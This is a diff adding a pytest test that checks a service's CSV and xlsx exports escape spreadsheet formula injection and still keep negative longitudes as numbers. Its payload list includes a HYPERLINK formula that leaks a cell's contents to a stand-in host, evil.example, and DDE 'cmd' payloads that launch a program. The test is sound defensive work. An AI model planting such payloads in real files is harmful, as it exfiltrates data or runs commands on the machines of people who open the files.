@@ -4,10 +4,12 @@ for huge offsets, bad uploads (encoding, size, zip bombs, duplicates) and awkwar
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import math
 import zipfile
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -244,3 +246,52 @@ def test_upload_and_body_size_limits(ctx: ServiceContext, api_settings: Settings
             assert len(body) == size
             r = client.post("/firms", headers={**admin, "Content-Type": "application/json"}, content=body)
             assert r.status_code == status, (size, r.text)
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)", "'=already quoted"]  # fmt: skip
+
+
+def test_exports_never_hold_a_formula_and_keep_negative_numbers(as_role) -> None:
+    """A firm named like a formula is exported as text ('-prefixed in CSV, a string cell in xlsx) and
+    imported back unchanged; a site west of Greenwich keeps a negative longitude as a number."""
+    from openpyxl import load_workbook
+
+    firms = [{"id": f"formula_{i}", "name": name} for i, name in enumerate([*FORMULAS, "Plain - name"])]
+    site = {"id": "formula_site", "firm_id": "formula_0", "name": "-Brest", "latitude_deg": 48.39,
+            "longitude_deg": -4.49, "territory_id": None}  # fmt: skip
+    for firm in firms:
+        assert as_role("admin", "POST", "/firms", json=firm).status_code == 201
+    assert as_role("admin", "POST", "/sites", json=site).status_code == 201, "site"
+    try:
+        r = as_role("admin", "GET", "/exports?format=csv")
+        assert r.status_code == 200
+        with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
+            tables = {Path(n).stem: zf.read(n).decode() for n in zf.namelist()}
+        names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(tables["firms"]))}
+        assert [names[f"formula_{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
+        assert names[f"formula_{len(FORMULAS)}"] == "Plain - name"  # a dash inside is no formula
+        sites = {row["id"]: row for row in csv.DictReader(io.StringIO(tables["sites"]))}
+        assert sites["formula_site"]["longitude_deg"] == "-4.49"  # a number, not "'-4.49"
+        assert sites["formula_site"]["name"] == "'-Brest"
+
+        book = load_workbook(io.BytesIO(as_role("admin", "GET", "/exports?format=xlsx").content))
+        cells = {row[0].value: row[1] for row in book["firms"].iter_rows(min_row=2)}
+        assert [
+            (cells[f"formula_{i}"].value, cells[f"formula_{i}"].data_type) for i in range(len(FORMULAS))
+        ] == [(f, "s") for f in FORMULAS]
+        lon = next(
+            row for row in book["sites"].iter_rows(min_row=2, values_only=True) if row[0] == "formula_site"
+        )
+        assert -4.49 in lon
+
+        again = as_role(
+            "admin", "POST", "/imports", files=[("files", ("export.zip", r.content, "application/zip"))]
+        )
+        assert again.status_code == 200, again.text
+        back = {f["id"]: f["name"] for f in as_role("admin", "GET", "/firms?limit=1000").json()["data"]}
+        assert [back[f"formula_{i}"] for i in range(len(FORMULAS))] == FORMULAS  # the quote undone
+    finally:
+        assert as_role("admin", "DELETE", "/sites/formula_site").status_code == 204
+        for firm in firms:
+            assert as_role("admin", "DELETE", f"/firms/{firm['id']}").status_code == 204
